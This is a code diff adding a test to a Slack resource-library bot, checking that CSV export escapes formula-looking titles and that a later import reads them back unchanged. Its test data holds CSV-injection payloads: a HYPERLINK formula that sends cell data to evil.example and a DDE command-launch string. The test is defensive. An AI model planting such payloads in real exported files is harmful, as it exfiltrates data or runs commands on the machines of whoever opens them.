@@ -7,12 +7,13 @@ import json
 from pathlib import Path
 
 import pytest
+from sqlalchemy import select
 
 from bot.cli import main
 from rendering.ids import ResourceAction
 from storage import resources
 from storage.db import SessionFactory
-from storage.models import Network
+from storage.models import Network, Resource
 from tests.scenarios.resources.library import (
     button_value,
     message_of,
@@ -22,7 +23,7 @@ from tests.scenarios.resources.library import (
 from tests.scenarios.resources.library import search as search_in_slack
 from tests.slackstub import SlackStub
 from tests.support.clock import FakeClock
-from tests.support.factories.resources import library_network
+from tests.support.factories.resources import library_network, seed
 from tests.support.harness import PeerbotUnderTest
 
 ROWS = """title,link,description,states,topics,tags,kind,shared_by,created_at
@@ -140,3 +141,26 @@ def test_import_carries_the_helpful_column_over_as_counts(
             ("Well loved toolkit", "13"),
             ("Unrated report", "0"),
         ]
+
+
+FORMULA_TITLES = ('=HYPERLINK("https://evil.example/?d="&A1,"Open")', "+cmd|' /C calc'!A0", "@SUM(A1:A9)", "-1+2")
+
+
+def test_export_keeps_formula_looking_entries_as_text_and_reads_them_back_as_typed(
+    cli_env: Path, network: Network, session_factory: SessionFactory, clock: FakeClock
+) -> None:
+    for n, title in enumerate(FORMULA_TITLES):
+        seed(session_factory, network, clock, title=title, url=f"https://example.org/f{n}", description="=1+1")
+    exported = cli_env / "library.csv"
+    assert main(["resources", "export", str(exported), "--network", "CHOME"]) == 0
+    with exported.open(newline="", encoding="utf-8") as rows:
+        written = list(csv.DictReader(rows))
+    # A spreadsheet shows a cell starting with ' as text: nothing here runs when an evaluator opens the file.
+    assert sorted(r["title"] for r in written) == sorted("'" + t for t in FORMULA_TITLES)
+    assert {r["description"] for r in written} == {"'=1+1"}
+
+    with session_factory.begin() as session:
+        for resource in session.scalars(select(Resource)):
+            session.delete(resource)
+    assert main(["resources", "import", str(exported), "--network", "CHOME"]) == 0
+    assert sorted(r.title for r in stored(session_factory)) == sorted(FORMULA_TITLES)
